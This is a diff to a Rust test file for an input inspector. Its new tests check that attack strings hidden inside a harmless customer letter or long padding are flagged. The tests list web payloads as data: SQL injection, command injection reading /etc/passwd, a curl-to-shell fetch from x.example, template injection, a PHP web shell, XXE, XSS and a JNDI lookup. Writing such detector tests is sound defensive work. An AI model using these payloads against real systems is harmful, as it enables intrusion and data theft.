@@ -106,6 +106,62 @@ fn prose_around_it_hides_nothing_that_steals() {
     assert_eq!(inspect(prose.as_bytes(), Place::Body), None);
 }
 
+/// A letter, long enough that it is taken for one.
+const LETTER: [&str; 2] = [
+    "The parcel came on time, and the shoes fit well. My daughter wears them every day, which says a lot! We had \
+     ordered two pairs before: one was too small, the other was sent back without any trouble. I would buy here again. ",
+    "Thank you for all of it, we are very happy with what we got. The next order will follow in spring, when the boys \
+     need something for the garden. Until then, all the best from the north of the country, where it rains today.",
+];
+
+#[test]
+fn a_letter_around_it_hides_nothing_that_breaks_out() {
+    let [before, after] = LETTER;
+    let mut missed = Vec::new();
+    for attack in [
+        "x' or '1'='1",
+        "x' union select login, password from users-- ",
+        "'; drop table orders-- ",
+        "; cat /etc/passwd",
+        "$(curl http://x.example/a|sh)",
+        "{{''.__class__.__mro__[1].__subclasses__()}}",
+        "${7*7}",
+        "<?php system($_GET['c']); ?>",
+        "*)(uid=*))(|(uid=*",
+        "<!--#exec cmd=\"ls\" -->",
+        "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/hosts\">]>",
+        "' || '1'=='1'; return true; var a='",
+        "__proto__[admin]=1",
+        "javascript:alert(document.domain)",
+    ] {
+        let lines = format!("{before}\n{attack}\n{after}");
+        if !inspect(lines.as_bytes(), Place::Body).is_some_and(|verdict| verdict.is_attack()) {
+            missed.push(attack);
+        }
+    }
+    assert!(missed.is_empty(), "{missed:#?}");
+    assert_eq!(inspect(format!("{before}\n{after}").as_bytes(), Place::Body), None);
+}
+
+#[test]
+fn length_hides_nothing() {
+    let base64 = "eHh4eHh4eHh4eHh4PHNjcmlwdD5hbGVydChkb2N1bWVudC5jb29raWUpPC9zY3JpcHQ+";
+    for value in [
+        format!("{}' or 1=1-- ", "a,".repeat(9_000)),
+        format!("{}' union select login, password from users-- ", "apple pear ".repeat(3_000)),
+        format!("{}{base64}", "eHh4".repeat(30_000)),
+        format!("{}data={base64}(y)", "x: y; ".repeat(1_000)),
+        format!("{{{{ '{}' + ''.__class__.__mro__ }}}}", "a".repeat(900)),
+        format!("${{jndi${{lower:{}}}:ldap://x.example/a}}", " ".repeat(900)),
+        format!("x;{}cat /etc/hosts", " ".repeat(40)),
+        format!("x\" onerror{}=alert(1)", " ".repeat(20)),
+        format!("%{}27 or 1=1-- ", "25".repeat(9)),
+    ] {
+        let verdict = inspect(value.as_bytes(), Place::Body);
+        assert!(verdict.is_some_and(|v| v.is_attack()), "{}…", value.get(..60).unwrap_or(&value));
+    }
+}
+
 /// What to repeat so that inspection has much to look at: one piece a line.
 #[expect(clippy::unwrap_used, reason = "a piece that cannot be read ends the test")]
 fn costly() -> Vec<Vec<u8>> {
@@ -163,7 +219,7 @@ fn all_steps(value: &[u8], place: Place) -> u64 {
 fn work_grows_with_the_length_and_not_faster() {
     for piece in costly() {
         for place in PLACES {
-            let [short, long] = [3_000, 12_000].map(|length| all_steps(&repeated(&piece, length), place));
+            let [short, long] = [8_000, 32_000].map(|length| all_steps(&repeated(&piece, length), place));
             assert!(
                 long <= short * 4 + short / 2 + 20_000,
                 "{:?} in {place:?}: {short} steps, and {long} for four times as much",
